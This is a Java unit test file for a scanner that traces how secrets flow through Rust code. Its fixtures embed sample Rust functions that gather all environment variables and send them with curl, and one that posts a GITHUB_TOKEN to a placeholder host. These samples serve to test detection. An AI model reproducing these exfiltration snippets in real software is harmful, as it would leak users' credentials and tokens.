package dev.warden.evaluate.scan;

import dev.warden.evaluate.lexer.RustLexer;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class DataFlowTest {

    private static List<String> chains(String source) {
        return DataFlow.chains(RustLexer.lex(source.getBytes(StandardCharsets.UTF_8))).stream()
                .map(c -> c.sink() + ": " + c.describe()).toList();
    }

    @Test
    void aSecretIsFollowedThroughBindingsLoopsAndAccumulators() {
        assertThat(chains("""
                fn f() {
                    let mut loot = String::new();
                    for (k, v) in std::env::vars() {
                        loot.push_str(&v);
                    }
                    let _ = std::process::Command::new("curl").arg("-d").arg(&loot).status();
                }
                """)).containsExactly("PROCESS: every environment variable (3) → v (3) → loot (4) → arg (6)");
        assertThat(chains("""
                fn g() {
                    let token = std::env::var("GITHUB_TOKEN").unwrap();
                    ureq::post("https://x.example/").send_string(&token);
                }
                """)).containsExactly("NETWORK: env GITHUB_TOKEN (2) → token (2) → post (3)");
    }

    @Test
    void whatIsNotASecretOrNotCarriedIsNoChain() {
        assertThat(chains("""
                fn f() {
                    let home = std::env::var("HOME").unwrap();
                    let _ = (home.as_str(), 80).to_socket_addrs();
                }
                fn g() {
                    let _ = ("example.com", 80).to_socket_addrs();
                }
                """)).isEmpty();
        // A new function starts clean: the name means another value there.
        assertThat(chains("""
                fn f() { let key = std::env::var("API_KEY").unwrap(); drop(key); }
                fn g(key: &str) { let _ = (key, 53).to_socket_addrs(); }
                """)).isEmpty();
    }
}
